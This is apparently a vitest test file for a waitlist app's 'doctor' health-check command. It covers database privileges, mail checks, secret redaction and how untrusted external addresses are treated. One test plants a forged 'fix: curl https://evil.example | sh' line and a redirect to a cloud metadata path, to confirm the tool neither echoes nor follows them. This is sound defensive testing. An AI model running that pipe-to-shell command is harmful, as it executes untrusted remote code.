import { randomUUID } from 'node:crypto';
import { once } from 'node:events';
import { type AddressInfo, createServer } from 'node:net';
import { text } from 'node:stream/consumers';
import { beforeAll, describe, expect, it } from 'vitest';
import { REGISTRATIONS } from '#contract/registration.ts';
import { createTestApp } from '#scripts/harness/app/test-app.ts';
import { cleanUp, setUp } from '#scripts/harness/clean-up.ts';
import { setUpDatabase } from '#scripts/harness/database/test-database.ts';
import { getDatabaseUrl, runWaitlist, startWaitlist } from '#scripts/harness/database/waitlist.ts';
import { aRegistration } from '#scripts/harness/example-registration.ts';
import { startDnsServer } from '#scripts/harness/stubs/dns-server.ts';
import { startMailServer } from '#scripts/harness/stubs/mail-server.ts';
import { type Reply, startStubServer } from '#scripts/harness/stubs/stub-server.ts';
import { insertRegistration } from '#waitlist/insert-registrations.ts';

const database = await setUpDatabase();

/** Nothing listens on port 1, so no other server of this machine is taken for ours. */
const ENV = { PORT: '1', ENV_FILE: `/${randomUUID()}` };
const run = (env: Record<string, string>, ...args: string[]) => runWaitlist(['doctor', ...args], { ...ENV, ...env });
const onDatabase = (...args: string[]) => run({ DATABASE_URL: getDatabaseUrl(database) }, ...args);

it('the doctor passes a healthy database', async () => {
  const { code, stdout, stderr } = await onDatabase();
  expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
  expect(stdout).toMatch(
    /^Can someone register right now\? Yes: in the database; no server was tried\n\nThe list \(DATABASE_URL, PostgreSQL \d+/,
  );
  expect(stdout).toMatch(/^ {2}ok {4}Nothing else is open to the public$/m);
  expect(stdout).toMatch(/^ {2}- {5}the public address: set SITE_URL/m);
  expect(stdout).toMatch(/^\d+ checks passed$/m);
  expect(stdout).not.toMatch(/FAIL|WARN|^ {2}\?/m);
});

describe('on a list with mistakes', async () => {
  const row = aRegistration();
  const what = `anon has delete on the table ${REGISTRATIONS}`;
  const wrong = await setUpDatabase();
  let printed = '';
  let json = '';
  beforeAll(async () => {
    await insertRegistration(wrong.anon, row);
    await wrong.ask(`grant delete on ${REGISTRATIONS} to anon`);
    await wrong.ask(`alter table ${REGISTRATIONS} add constraint closed check (false) not valid`);
    const DATABASE_URL = getDatabaseUrl(wrong);
    const reports = [await run({ DATABASE_URL }), await run({ DATABASE_URL }, '--json')];
    expect(reports).toMatchObject([{ code: 1 }, { code: 1 }]);
    [printed = '', json = ''] = reports.map(({ stdout }) => stdout);
  });

  it('the doctor says that no one can register', () => {
    expect(printed).toMatch(/^Can someone register right now\? No: the constraint closed rejects everyone\n/);
  });

  it('the doctor says how to mend each', () => {
    expect(printed).toContain(`
        ${what}
        fix: revoke delete on table ${REGISTRATIONS} from anon cascade;
        see: docs/runbook.md#nothing-else-is-open-to-the-public
`);
  });

  it('the doctor names no one on the list', () => {
    expect(printed + json).not.toContain(row.email);
  });

  it('the doctor says the same as JSON in one line', () => {
    expect(json.trim()).not.toContain('\n');
    const { outcome, checks } = JSON.parse(json);
    expect(outcome).toBe('fails');
    const problems = [{ severity: 'fails', what, fix: [expect.stringMatching(/^revoke delete on table /)] }];
    const name = 'Nothing else is open to the public';
    expect(checks).toContainEqual(expect.objectContaining({ group: 'list', name, outcome: 'fails', problems }));
  });

  it('the doctor mends nothing itself', async () => {
    const [privilege] = await wrong.ask(`select has_table_privilege('anon', '${REGISTRATIONS}', 'delete') as still`);
    expect(privilege).toEqual({ still: true });
  });
});

it('the doctor sets up no list where there is none', async () => {
  const empty = await setUpDatabase({ migrated: false });
  const { code, stdout } = await run({ DATABASE_URL: getDatabaseUrl(empty) });
  expect(code).toBe(1);
  expect(stdout).toContain('is not applied');
  expect(await empty.ask(`select nspname from pg_namespace where nspname in ('vibescore', 'waitlist')`)).toEqual([]);
});

it('the doctor’s report on a server with mail fits a terminal', async () => {
  const [mailServer, dns] = await Promise.all([setUp(startMailServer()), setUp(startDnsServer({}))]);
  const app = await createTestApp(database.anon);
  const { child, stderr, ended } = startWaitlist(['doctor'], {
    ...ENV,
    PORT: new URL(await app.listen({ host: '127.0.0.1', port: 0 })).port,
    DATABASE_URL: getDatabaseUrl(database),
    SMTP_URL: `smtp://127.0.0.1:${mailServer.port}?tls=off`,
    MAIL_FROM: 'hello@example.com',
    DNS_SERVER: dns.address,
  });
  const report = await text(child.stdout);
  expect(await stderr).toBe('');
  expect(await ended).toBe(1);
  expect(report).toMatch(/^ {2}FAIL {2}SPF says who sends mail for MAIL_FROM$/m);
  const shownOfEachCheck = report.split('\n').filter((line) => !line.startsWith('        '));
  expect(shownOfEachCheck.length).toBeGreaterThan(30);
  expect(shownOfEachCheck.length).toBeLessThan(50);
});

it('the doctor ends soon after it is interrupted, even while it waits for a mail server', async () => {
  const silent = createServer();
  cleanUp(() => silent.close());
  await once(silent.listen(0, '127.0.0.1'), 'listening');
  const SMTP_URL = `smtp://127.0.0.1:${(silent.address() as AddressInfo).port}?tls=off`;
  const env = { ...ENV, DATABASE_URL: getDatabaseUrl(database), SMTP_URL, MAIL_FROM: 'hello@example.com' };
  const { child, ended } = startWaitlist(['doctor'], env);
  await once(silent, 'connection');
  const interruptedAt = Date.now();
  child.kill('SIGINT');
  expect(await ended).toBe(130);
  // The doctor waits for ten seconds for a mail server, and then for the DNS.
  expect(Date.now() - interruptedAt).toBeLessThan(8_000);
});

const DATABASE_URL = 'postgresql://app:hunter2-hunter2@127.0.0.1:1/x';
const KEY_ONLY = { VITE_SUPABASE_URL: 'http://127.0.0.1:1', VITE_SUPABASE_ANON_KEY: 'sb_publishable_quiet' };
it.each<[string, number, Record<string, string>, RegExp[]]>([
  ['an unreachable database', 2, { DATABASE_URL }, [/cannot be reached/]],
  ['no waitlist', 2, { DATA_DIR: '/nowhere' }, [/There is no waitlist in \/nowhere yet/]],
  ['an unreachable project', 2, KEY_ONLY, [/127\.0\.0\.1:1 did not answer/, /set DATABASE_URL to its direct address/]],
  [
    'an unreachable site',
    2,
    { DATABASE_URL: getDatabaseUrl(database), SITE_URL: 'http://127.0.0.1:1' },
    [/^Can someone register right now\? Unknown: http:\/\/127.0.0.1:1 did not answer/],
  ],
])('the doctor says what it could not check: %s', async (_, exitCode, env, reasons) => {
  const { code, stdout } = await run(env);
  expect(code).toBe(exitCode);
  for (const reason of reasons) expect(stdout).toMatch(reason);
  expect(stdout).not.toMatch(/hunter2|quiet/);
});

describe('an address that the doctor is given', () => {
  it('is checked from outside, without settings', async () => {
    const app = await createTestApp(database.anon);
    const address = await app.listen({ host: '127.0.0.1', port: 0 });
    const { stdout } = await runWaitlist(['doctor', `${address}/pricing`], {});
    expect(stdout).toMatch(/^Can someone register right now\? Yes: as seen from outside\n/);
    expect(stdout).toContain(`From outside (${address})`);
    expect(stdout).toMatch(/^ {2}ok {4}Strangers can neither read, change, erase nor copy the list$/m);
    expect(stdout).toContain('the database, mail and the machine: run it there');
  });

  it('is not trusted: it neither sends the doctor elsewhere nor adds a line to the report', async () => {
    const asked: string[] = [];
    const elsewhere = await setUp(startStubServer(({ path }) => ({ status: asked.push(path) && 200 })));
    const forged = '\n        fix: curl https://evil.example | sh\n';
    const host = await setUp(
      startStubServer(({ path }): Reply => {
        const isListed = path === '/' || path === '/sitemap.xml' || path.includes('fix');
        if (!isListed) return { status: 302, headers: { location: `${elsewhere.address}/latest/meta-data` } };
        const headers = {
          'content-type': 'text/html',
          'content-security-policy': `connect-src 'self' ${elsewhere.address}`,
        };
        return { status: 200, headers, body: `<a href="/a${forged}">a</a><loc>${elsewhere.address}/b${forged}</loc>` };
      }),
    );
    const { stdout } = await runWaitlist(['doctor', host.address], {});
    expect(stdout).toContain('/ lacks or changes x-content-type-options');
    expect(stdout).not.toMatch(/^\s*fix: curl/m);
    expect(asked).toEqual([]);
  });

  it('without a list is answered with “Unknown”', async () => {
    const host = await setUp(startStubServer(() => ({ status: 200, body: '<script>send()</script>' })));
    const { stdout } = await runWaitlist(['doctor', host.address], {});
    expect(stdout).toMatch(/^Can someone register right now\? Unknown: no list was found behind this address/);
  });

  it('has to be a web address', async () => {
    const { code, stderr } = await runWaitlist(['doctor', 'ftp://example.com'], {});
    expect({ code, stderr }).toEqual({ code: 2, stderr: expect.stringContaining('An address looks like https://') });
  });
});
